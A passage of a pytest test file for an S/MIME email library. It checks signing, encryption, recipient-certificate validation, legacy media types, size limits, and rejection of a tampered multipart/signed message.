    [b"", b"From: alice@example.com\r\nSubject: no type\r\n\r\nplain text\r\n"],
    ids=["empty", "no-content-type"],
)
def test_verifying_what_is_not_signed(p: pki.PKI, data: bytes) -> None:
    assert check(p, data).status is SignatureStatus.NOT_CHECKED


@pytest.mark.parametrize("operation", ["sign", "encrypt"])
def test_protecting_an_empty_message_is_refused(
    p: pki.PKI, ids: dict[str, Identity], operation: str
) -> None:
    with pytest.raises(MalformedMessageError):
        if operation == "sign":
            sign(b"", ids["rsa"])
        else:
            encrypt(b"", [p.users["rsa"].cert])


def test_message_without_content_type_is_signed_as_text_plain(
    p: pki.PKI, ids: dict[str, Identity]
) -> None:
    data = b"From: alice@example.com\r\nTo: bob@example.com\r\nSubject: s\r\n\r\nhello\r\n"
    result = check(p, sign(data, ids["rsa"]))
    assert result.verified
    assert result.message is not None
    assert result.message.get_content_type() == "text/plain"
    assert result.message.get_content() == "hello\n"


def bad_recipient(p: pki.PKI, problem: str) -> Issued:
    """A certificate for bad@example.com that must not be encrypted to (RSA key reused)."""
    options: dict[str, object] = {
        "expired": {"not_before": NOW - 10 * DAY, "not_after": NOW - DAY},
        "not-yet-valid": {"not_before": NOW + DAY, "not_after": NOW + 10 * DAY},
        "sign-only-usage": {"purpose": "sign"},
    }[problem]
    return pki.issue(
        common_name="Bad",
        email="bad@example.com",
        issuer=p.intermediate,
        key=p.users["rsa"].key,
        **options,  # type: ignore[arg-type]
    )


@pytest.mark.parametrize("problem", ["expired", "not-yet-valid", "sign-only-usage"])
@pytest.mark.parametrize("position", [0, 1, 2])
def test_one_bad_recipient_refuses_the_whole_message(
    p: pki.PKI, position: int, problem: str
) -> None:
    """Fail closed: nothing is produced, and the error names the recipient."""
    recipients = [p.users["p256"].cert, p.users["x25519"].cert]
    recipients.insert(position, bad_recipient(p, problem).cert)
    with pytest.raises(RecipientError) as info:
        encrypt(message(), recipients)
    assert info.value.recipient == "bad@example.com"


def test_sign_only_certificate_is_refused_as_recipient(p: pki.PKI) -> None:
    with pytest.raises(RecipientError) as info:
        encrypt(message(), [p.users["ed25519"].cert])
    assert info.value.recipient == "erin@example.com"


def test_ed25519_without_key_usage_is_still_refused(p: pki.PKI) -> None:
    user = pki.issue(common_name="Ed", email="ed@example.com", key_type="ed25519", key_usage=None)
    with pytest.raises(RecipientError) as info:
        encrypt(message(), [user.cert])
    assert info.value.recipient == "ed@example.com"


def test_recipient_outside_the_given_trust_is_refused(p: pki.PKI) -> None:
    other_root = pki.issue(common_name="Other Root", purpose="ca", key_type="p256")
    with pytest.raises(RecipientError) as info:
        encrypt(message(), [p.users["p256"].cert], trust=[other_root.cert])
    assert info.value.recipient == "carol@example.com"
    encrypt(message(), [p.users["p256"].cert], trust=[p.intermediate.cert])


def test_no_recipients(p: pki.PKI) -> None:
    with pytest.raises(RecipientError):
        encrypt(message(), [])


def test_the_same_recipient_twice_gets_one_recipient_info(p: pki.PKI) -> None:
    cert = p.users["rsa"].cert
    protected = encrypt(message(), [cert, Recipient.from_certificate(cert), cert])
    assert len(envelope_of(protected)["content"]["recipient_infos"]) == 1


@pytest.mark.parametrize(
    "content_type",
    [b"application/pkcs7-mime", b"application/x-pkcs7-mime"],
    ids=["standard", "x-legacy"],
)
def test_legacy_media_types_and_missing_smime_type_still_decrypt(
    p: pki.PKI, ids: dict[str, Identity], content_type: bytes
) -> None:
    """Old clients omit smime-type and write application/x-pkcs7-mime (RFC 8551 3.2.1)."""
    der = smime_der(sealed(p).data)
    data = pki.enveloped_message(der).replace(b"application/pkcs7-mime", content_type)
    assert decrypt(data, ids["rsa"]).message.get_content() == TEXT


def test_legacy_x_pkcs7_signature_verifies(p: pki.PKI, ids: dict[str, Identity]) -> None:
    data = detached(p, ids).replace(
        b"application/pkcs7-signature", b"application/x-pkcs7-signature"
    )
    assert check(p, data).status is SignatureStatus.VERIFIED


def test_multipart_signed_with_an_extra_part_is_refused(
    p: pki.PKI, ids: dict[str, Identity]
) -> None:
    data = detached(p, ids)
    boundary = pki.boundary_of(data)
    extra = (
        b"--" + boundary + b"\r\nContent-Type: text/plain\r\n\r\nsmuggled\r\n--" + boundary + b"--"
    )
    forged = replace_once(data, b"--" + boundary + b"--", extra)
    with pytest.raises(MalformedMessageError):
        check(p, forged)


def test_size_limit_applies_to_decrypt_and_verify(p: pki.PKI, ids: dict[str, Identity]) -> None:
    small = DEFAULT.clone(max_message_size=1000)
    with pytest.raises(SizeLimitExceeded):
        decrypt(sealed(p), ids["rsa"], policy=small)
    with pytest.raises(SizeLimitExceeded):
        check(p, detached(p, ids), policy=small)


def test_encrypted_message_can_be_signed_afterwards(p: pki.PKI, ids: dict[str, Identity]) -> None:
    """encrypt | sign (a signed receipt of the ciphertext, as some gateways do)."""
    encrypted = encrypt(from_(p.users["rsa"]), [p.users["p256"].cert])
    result = check(p, sign(encrypted, ids["rsa"]))
    assert result.status is SignatureStatus.VERIFIED
    assert result.data is not None
    assert decrypt(result.data, ids["p256"]).message.get_content() == TEXT


@pytest.mark.parametrize("signer", ["ed25519", "rsa-sign-only"])
def test_signer_with_a_signing_only_certificate_can_sign_and_encrypt(
    p: pki.PKI, ids: dict[str, Identity], signer: str
) -> None:
    """Separate signing and encryption certificates are common (RFC 8550 4.4.2), and Ed25519
    can only sign. The copy to self is a convenience: it must not make the message fail."""
    if signer == "ed25519":
        who, user = ids["ed25519"], p.users["ed25519"]
    else:
        user = pki.issue(
            common_name="Alice (signing)",
            email="alice@example.com",
            issuer=p.intermediate,
            key=p.users["rsa"].key,
            purpose="sign",
        )
        who = identity(user, p.intermediate)
    protected = encrypt(from_(user), [p.users["p256"].cert], signer=who)
    assert check(p, decrypt(protected, ids["p256"]).data).status is SignatureStatus.VERIFIED
